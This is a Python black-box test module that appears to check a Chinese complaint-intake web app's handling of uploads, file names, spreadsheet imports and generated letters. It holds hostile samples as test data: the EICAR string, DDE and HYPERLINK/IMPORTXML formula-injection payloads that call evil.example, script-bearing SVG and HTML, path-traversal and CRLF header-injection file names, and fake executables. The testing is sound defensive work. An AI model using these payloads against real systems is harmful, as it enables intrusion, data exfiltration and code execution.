"""g2: what comes in as a file and what goes out as one: refused or inert, never run by anybody.

Hostile files are uploaded by the form of the desk; an import is fed with formulas, and the sheet of
the rows that cannot be taken must hold none; a letter about a title of markup must show the markup.
"""

from __future__ import annotations

import io
import time
from collections.abc import Mapping
from urllib.parse import unquote

from openpyxl import load_workbook
from pypdf import PdfReader

from core.files.sending import POLICY
from tests.blackbox import browsing
from tests.blackbox.hostile import _memory
from tests.blackbox.report import Section
from tests.blackbox.target import Target
from tests.blackbox.visitor import Answer, Visitor
from tests.core.files import test_policy as attacks
from tests.support import files, hotline

SLOWEST, MOST_MEMORY = 2.0, 100
#: The test file of the makers of virus scanners: plain text, to be kept as such and never run.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FORMULAS = (
    *('=HYPERLINK("http://evil.example/?"&A1,"看")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)"),
    *("=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", '=DDE("cmd";"/C calc";"x")'),
    *('=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE(A1)", ";=1+1", "|=1+1", "%0A=1"),
)
MARKUP = '<a href="http://evil.example/">点</a><b>粗</b>&amp;<img src=x>'
#: Names by which a file would leave its folder, hide its kind or write into a page or a header.
NAMES = (
    *("../../../etc/cron.d/x.txt", "..\\..\\x.txt", "/etc/passwd.txt", "C:\\x.txt", "a\0b.txt"),
    *(
        "\u202etxt.exe",
        "证据\u202egpj.txt",
        "a\u2066b.txt",
        "x" * 300 + ".txt",
        "字" * 300 + ".txt",
    ),
    *('"><script>alert(1)</script>.txt', "a\r\nSet-Cookie: x=1.txt", "CON.txt", ".txt", "a;b.txt"),
)


def _uploads() -> dict[str, tuple[str, bytes]]:
    """Return what must be refused: by its name in the report, the file's name and its bytes."""
    bad: dict[str, tuple[str, bytes]] = {**attacks.LIES, **attacks.POLYGLOTS}
    parts = {**attacks.BOMBS, **attacks.MACROS, **attacks.EMBEDDED}
    for case, content in parts.items():
        name = {"macro sheet": "台账.xlsx", "other workbook": "台账.xlsx"}.get(case, "说明.docx")
        bad[case] = ("批复.ofd" if case == "script in OFD" else name, content)
    for case, (kind, target) in attacks.OUTSIDE.items():
        tied = files.ties((kind, target, "External"))
        bad[case] = ("说明.docx", files.docx(**{"word/_rels/document.xml.rels": tied}))
    bad |= {f"PDF: {case}": ("说明.pdf", content) for case, (content, _) in attacks.PDFS.items()}
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    return bad | {
        "SVG": ("图.svg", svg),
        "SVG as text": ("图.txt", svg),
        "a page": ("页.html", b"<html><script>alert(1)</script></html>"),
        "a program": ("说明.pdf.exe", b"MZ\x90\0" + bytes(200)),
        "a program before": ("说明.exe.pdf", files.pdf()),
        "old office": ("说明.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)),
        "path in an archive": ("说明.docx", attacks._entry("../../etc/cron.d/x")),
        "link in an archive": ("说明.docx", attacks._entry("word/l.xml", 0o120777)),
        "flood of pixels": ("图.png", files.png(10_000, 10_000)),
        "flood of pixels in a JPEG": ("图.jpg", attacks._claiming(60_000, 60_000)),
        "a password": ("说明.pdf", attacks.encrypted_pdf()),
        "nothing": ("说明.pdf", b""),
        "over the limit": ("大.pdf", files.pdf() + b" " * attacks.LIMIT),
        "EICAR as a program": ("eicar.com", EICAR),
    }


def run(target: Target, every: int = 1) -> Section:
    """Upload every so-and-so many-th hostile file; look at all exports."""
    section = Section("g2 文件进出")
    clerk = target.visitor("intake")
    before = _memory(target)
    refused = slowest = 0.0
    bad = _uploads()
    chosen = list(bad.items())[::every]
    for case, (name, content) in chosen:
        began = time.perf_counter()
        answer = _register(clerk, name, content)
        slowest = max(slowest, time.perf_counter() - began)
        if answer.status in (413, 422):
            refused += 1
        else:
            section.found(f"{case}: {answer.status}")
    names = sum(_named(clerk, name, section) for name in NAMES[::every])
    if slowest > SLOWEST:
        section.found(f"an upload took {slowest:.1f} s")
    grown = _memory(target) - before
    if grown > MOST_MEMORY:
        section.found(f"memory grew by {grown} MB")
    cells = _exports(clerk, section)
    _paper(target, clerk, section)
    section.figures |= {
        "hostile files": f"{refused:.0f} of {len(chosen)} refused",
        "hostile names": f"{names} of {len(NAMES[::every])} refused or inert",
        "formula cells": f"0 of {cells}" if cells else "none looked at",
        "slowest": f"{slowest:.1f} s",
        "memory": f"{grown:+d} MB",
    }
    return section


def _register(clerk: Visitor, name: str, content: bytes, title: str = "附件") -> Answer:
    """Register a report with a file."""
    values = {
        "received_on": "2026-03-02",
        "channel": "visit",
        "kind": "report",
        "title": title,
        "facts": "材料附后。",
        "occurred_from": "2026-01-20",
        "trigger": "duty_not_performed",
        "respondents-0-unit": "阿尔山市生态环境局",
        "reporter_name": "邰石匠",
    }
    return browsing.fill_in(clerk, "/complaints/new", values, {"files": [(name, content)]})


def _named(clerk: Visitor, name: str, section: Section) -> bool:
    """Upload sound bytes under a hostile name; taken, they must be handed out inert."""
    answer = _register(clerk, name, EICAR)
    if answer.status in (400, 413, 422):
        return True
    complaint = answer.location.removesuffix("/receipt")
    page = clerk.ask("GET", complaint).body.decode()
    links = set(browsing.linked(page, f"{complaint}/attachments/"))
    if not links:
        section.found(f"{ascii(name)[:60]}: taken ({answer.status}) and not on the page")
        return False
    wrong = [fault for link in links for fault in _not_inert(clerk.ask("GET", link))]
    if "<script>alert(1)" in page:
        wrong.append("comes back as markup")
    section.findings += [f"{ascii(name)[:60]}: {fault}" for fault in wrong]
    return not wrong


def _not_inert(answer: Answer) -> list[str]:
    """Return what of a download a browser might run, or a disk take for a path."""
    head = answer.headers
    given = head.get("content-disposition", "")
    name = unquote(given.rpartition("''")[2])
    wrong = []
    if not given.startswith("attachment;"):
        wrong.append("is shown by the browser")
    if head.get("x-content-type-options") != "nosniff":
        wrong.append("may be taken for another kind")
    if head.get("content-security-policy") != POLICY:
        wrong.append("has no policy of its own")
    if any(mark in name for mark in ("/", "\\", "\0", "\r", "\n", "\u202e", "\u2066")):
        wrong.append(f"is saved as {name!a}")
    if len(name) > 255 or "set-cookie" in head:
        wrong.append("has too long a name, or a header of its own")
    return wrong


def _exports(clerk: Visitor, section: Section) -> int:
    """Import rows that cannot be taken and are full of formulas; look at the sheet of them."""
    rows = [
        hotline.order(n, 受理时间="昨天", 标题=formula, 诉求内容=formula, 被反映单位=formula)
        for n, formula in enumerate(FORMULAS, 1)
    ]
    sheets = {"csv": hotline.csv_of(rows), "xlsx": hotline.xlsx(rows)}
    looked = 0
    for kind, content in sheets.items():
        page = "/complaints/imports/new"
        answer = browsing.fill_in(clerk, page, {}, {"sheet": [(f"工单.{kind}", content)]})
        if answer.status != 303:
            section.found(f"the {kind} with formulas is answered with {answer.status}")
            continue
        given = clerk.ask("GET", f"{answer.location}/rejected")
        cells = _cells(given.body) if given.status == 200 else {}
        wanted = sum(any(f.strip()[:12] in text for f in FORMULAS) for text in cells.values())
        if wanted < len(FORMULAS):
            section.found(f"of the {kind}, {wanted} cells with formulas came back")
        active = [where for where, text in cells.items() if text.startswith("<f>")]
        section.findings += [f"the {kind} came back with a formula in {one}" for one in active]
        looked += len(cells)
    return looked


def _cells(content: bytes) -> Mapping[str, str]:
    """Return the cells of an XLSX, "<f>" before what is computed or what a reader's edit would make
    a formula of (a text without a quote before it).
    """
    book = load_workbook(io.BytesIO(content))
    found = {}
    for row in book.worksheets[0].iter_rows():
        for cell in row:
            text = "" if cell.value is None else str(cell.value)
            begins = text.strip()[:1] in tuple("=+-@") and not cell.quotePrefix
            found[cell.coordinate] = f"<f>{text}" if begins or cell.data_type == "f" else text
    return found


def _paper(target: Target, clerk: Visitor, section: Section) -> None:
    """Let a letter be made about a title of markup: it shows the markup, and links nowhere."""
    answer = _register(clerk, "说明.txt", b"text", MARKUP)
    complaint = answer.location.removesuffix("/receipt")
    leader = target.visitor("leader")
    browsing.fill_in(leader, f"{complaint}/accept", {"reason": "受理。"}, to="/accept")
    links = set(browsing.linked(leader.ask("GET", complaint).body.decode(), f"{complaint}/doc"))
    if not links:
        section.found(f"no letter about a title of markup ({answer.status})")
    for link in links:
        content = leader.ask("GET", link).body
        reader = PdfReader(io.BytesIO(content))
        text = "".join("".join(page.extract_text().split()) for page in reader.pages)
        if "".join(MARKUP.split()) not in text:
            section.found("a letter does not show the markup of a title as it was typed")
        if any("evil.example" in str(page.get("/Annots", "")) for page in reader.pages):
            section.found("a letter links to where a title says")
